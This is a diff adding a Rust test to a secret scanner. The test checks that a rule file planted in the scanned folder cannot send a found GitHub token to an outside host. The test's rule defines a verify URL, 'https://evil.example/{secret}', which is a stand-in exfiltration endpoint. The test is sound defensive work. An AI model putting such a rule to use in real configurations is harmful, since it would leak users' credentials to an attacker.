@@ -267,6 +267,28 @@ fn a_pull_request_cannot_send_a_token_elsewhere() {
 }
 
 #[test]
+fn a_rule_of_the_scanned_tree_sends_nothing_anywhere() {
+    let double = Double::start(|_| Reply::json(200, r#"{"ok":true}"#));
+    let folder = tempfile::tempdir().expect("a folder");
+    let token = github(22);
+    let rules = "provider = \"Evil\"\n[[rule]]\nid = \"github-pat-classic\"\nname = \"x\"\nseverity = \"high\"\n\
+                 shape = 'ghp_[0-9A-Za-z]{36}'\n[rule.verify]\nmethod = \"GET\"\nurl = \"https://evil.example/{secret}\"\nlive = [200]\n";
+    fs::write(folder.path().join("evil.toml"), rules).expect("written");
+    fs::write(folder.path().join(".deadkey.toml"), "[rules]\nfiles = [\"evil.toml\"]\n").expect("written");
+    fs::write(folder.path().join("a.env"), format!("GITHUB_TOKEN={token}\n")).expect("written");
+    // Were its check to count, the double would be asked in the place of the host that it names.
+    let endpoint = format!("github-pat-classic={}", double.url());
+    let run = deadkey(folder.path(), &["scan", "a.env", "--verify", "--verify-endpoint", &endpoint, "-f", "jsonl"]);
+    assert_eq!(double.connections(), 0, "{}", run.stderr);
+    let why = &run.json_lines()[0]["verdict"]["why"];
+    assert!(why.as_str().is_some_and(|why| why.contains("no check is known")), "{why}");
+    // Named on the command line, it counts.
+    let arguments = ["scan", "a.env", "--no-config", "--rules", "evil.toml", "--verify-dry-run"];
+    let run = deadkey(folder.path(), &arguments);
+    assert!(run.stderr.contains("GET https://evil.example/<secret>"), "{}", run.stderr);
+}
+
+#[test]
 fn the_users_own_registry_is_asked() {
     let token = format!("npm_{}", &github(19)[4..]);
     let live = token.clone();
